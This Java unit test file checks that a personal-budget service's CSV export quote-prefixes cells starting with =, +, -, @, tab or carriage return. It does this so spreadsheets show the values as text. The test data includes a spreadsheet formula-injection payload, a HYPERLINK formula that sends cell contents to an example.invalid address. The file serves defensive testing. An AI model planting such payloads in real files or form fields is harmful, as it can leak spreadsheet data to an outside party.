package uk.gov.personalbudget.approval.web;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.junit.jupiter.api.Test;
import uk.gov.personalbudget.approval.projection.ControlTrailEntry;
import uk.gov.personalbudget.approval.projection.Decision;
import uk.gov.personalbudget.approval.projection.DecisionKind;
import uk.gov.personalbudget.approval.projection.InMemoryProjection;
import uk.gov.personalbudget.approval.support.LifecycleEvents;
import uk.gov.personalbudget.contracts.control.ControlHolder;
import uk.gov.personalbudget.contracts.control.ControlParty;
import uk.gov.personalbudget.contracts.value.BudgetId;
import uk.gov.personalbudget.contracts.value.Role;

import java.io.IOException;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

/** What callers wrote reaches a spreadsheet as text, never as a formula it would run. */
class CsvExportTest {

    private static final String FORMULA = "=HYPERLINK(\"https://example.invalid/?d=\"&A1,\"Open\")";
    private static final BudgetId BUDGET = new BudgetId("PB-2026-0001");
    private static final Instant AT = Instant.parse("2026-03-02T09:30:00Z");

    @Test
    void aFormulaInAContestReasonOrADelegateIdStaysText() throws IOException {
        ControlTrailEntry delegated = new ControlTrailEntry(
                BUDGET,
                4,
                ControlHolder.PERSON,
                ControlHolder.named(ControlParty.NOMINEE, "@SUM(1+1)"),
                AT,
                "ControlDelegated",
                "person-1001",
                Role.PERSON,
                null,
                FORMULA,
                null);

        Map<String, String> row = rows(CsvExport.trail(List.of(delegated))).get(0);

        assertThat(row.get("reason")).isEqualTo("'" + FORMULA);
        assertThat(row.get("toActor")).isEqualTo("'@SUM(1+1)");
        assertThat(row.get("actor")).isEqualTo("person-1001");
    }

    @Test
    void aFormulaInADecisionsReasonsOrOutcomeStaysText() throws IOException {
        Decision contested = new Decision(
                BUDGET,
                5,
                DecisionKind.OFFER,
                AT,
                "+tm-4001",
                Role.AUTHORITY,
                null,
                "-1",
                FORMULA,
                "\tdetail",
                null,
                null,
                null,
                null,
                null);

        Map<String, String> row = rows(CsvExport.decisions(List.of(contested))).get(0);

        assertThat(row.get("reasons")).isEqualTo("'" + FORMULA);
        assertThat(row.get("outcome")).isEqualTo("'-1");
        assertThat(row.get("actor")).isEqualTo("'+tm-4001");
        assertThat(row.get("detail")).isEqualTo("'\tdetail");
    }

    @Test
    void theReasonsOfWithdrawalsReallocationsAndClosuresStayTextInBothExports() throws IOException {
        var life = LifecycleEvents.budget(BUDGET.value())
                .opened()
                .assessed()
                .offered(1_000_000)
                .contested("=1+1", null)
                .contestWithdrawn("@withdrawn")
                .accepted()
                .submitted(1_000_000)
                .planWithdrawn("+withdrawn")
                .reallocated("sw-7", "-moved")
                .closed("=closed");
        var projection = InMemoryProjection.of(life.envelopes());

        List<Map<String, String>> decisions = rows(CsvExport.decisions(projection.decisions()));
        List<Map<String, String>> trail = rows(CsvExport.trail(projection.trail()));

        assertThat(decisions)
                .extracting(row -> row.get("kind"), row -> row.get("reasons"))
                .contains(
                        tuple("CONTEST_WITHDRAWAL", "'@withdrawn"), tuple("PLAN_WITHDRAWAL", "'+withdrawn"),
                        tuple("REALLOCATION", "'-moved"), tuple("CLOSURE", "'=closed"));
        assertThat(decisions)
                .filteredOn(row -> row.get("kind").equals("CLOSURE"))
                .singleElement()
                .satisfies(row -> assertThat(row.get("detail")).isEqualTo("person told by LETTER"));
        assertThat(trail)
                .extracting(row -> row.get("event"), row -> row.get("reason"))
                .contains(
                        tuple("ContestWithdrawn", "'@withdrawn"),
                        tuple("PlanWithdrawn", "'+withdrawn"),
                        tuple("BudgetClosed", "'=closed"));
    }

    @Test
    void everyFormulaLeadIsNeutralisedAndOtherTextKeptExactly() {
        for (String lead : List.of("=", "+", "-", "@", "\t", "\r")) {
            assertThat(CsvExport.cell(lead + "1")).isEqualTo("'" + lead + "1");
        }
        assertThat(CsvExport.cell("The plan, as \"written\" - with a dash inside"))
                .isEqualTo("The plan, as \"written\" - with a dash inside");
        assertThat(CsvExport.cell("")).isEmpty();
        assertThat(CsvExport.cell(null)).isNull();
    }

    private static List<Map<String, String>> rows(String csv) throws IOException {
        try (MappingIterator<Map<String, String>> rows = new CsvMapper()
                .readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader())
                .readValues(csv)) {
            return rows.readAll();
        }
    }
}
